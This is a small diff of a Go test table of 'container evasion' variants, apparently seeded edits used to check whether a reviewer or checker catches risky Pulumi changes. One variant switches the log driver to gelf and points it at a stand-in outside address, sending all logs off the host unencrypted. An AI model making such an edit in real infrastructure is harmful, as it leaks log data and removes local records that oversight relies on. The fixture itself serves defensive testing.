@@ -115,8 +115,8 @@ var containerEvasions = []variant{
 	{
 		name: "logs to a stranger",
 		edits: []edit{
-			{containers, `const logDriver = "local"`, `const logDriver = "gelf"`},
-			{containers, `pulumi.StringMap{"max-size": pulumi.String("10m"), "max-file": pulumi.String("5")}`, `pulumi.StringMap{"gelf-address": pulumi.String("udp://203.0.113.66:12201")}`},
+			{"internal/workload/logging.go", `const logDriver = "local"`, `const logDriver = "gelf"`},
+			{"internal/workload/logging.go", `pulumi.StringMap{prefix + "max-size": pulumi.String("10m"), prefix + "max-file": pulumi.String("5")}`, `pulumi.StringMap{"gelf-address": pulumi.String("udp://203.0.113.66:12201")}`},
 		},
 		why: "all logs, with what flows print, leave the host unencrypted and are not kept on it",
 	},
